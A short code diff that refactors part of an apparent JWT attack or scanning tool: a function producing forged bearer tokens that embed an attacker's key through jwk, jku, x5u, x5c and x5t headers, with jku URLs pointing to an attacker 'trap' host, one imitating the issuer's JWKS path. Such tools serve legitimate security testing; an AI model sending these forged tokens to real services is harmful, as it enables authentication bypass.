@@ -63,7 +63,7 @@ def key_in_header(attacker: Attacker) -> Iterator[Request]:
     foreign, kid, trap = attacker.foreign_key, attacker.header["kid"], attacker.trap
     jwk = {"alg": "RS256", "kid": kid, "kty": "RSA", "use": "sig", **forge.numbers(foreign)}
     der = base64.b64encode(forge.forms(foreign)["DER"]).decode()
-    for name, parameters in {
+    headers: dict[str, dict[str, Any]] = {
         "jwk": {"jwk": jwk},
         "jku": {"jku": f"{trap}/jwks.json"},
         "jku of a look-alike": {"jku": f"{trap}/{attacker.claims['iss']}/.well-known/jwks.json"},
@@ -73,7 +73,8 @@ def key_in_header(attacker: Attacker) -> Iterator[Request]:
         "x5c": {"x5c": [der]},
         "x5t": {"x5t": kid, "x5t#S256": kid},
         "all of them": {"jwk": jwk, "jku": f"{trap}/jwks.json", "x5u": trap, "x5c": [der]},
-    }.items():
+    }
+    for name, parameters in headers.items():
         yield bearer(f"{name}, the pool's kid", attacker.forged(header=parameters, key=foreign))
         yield bearer(
             f"{name}, another kid",
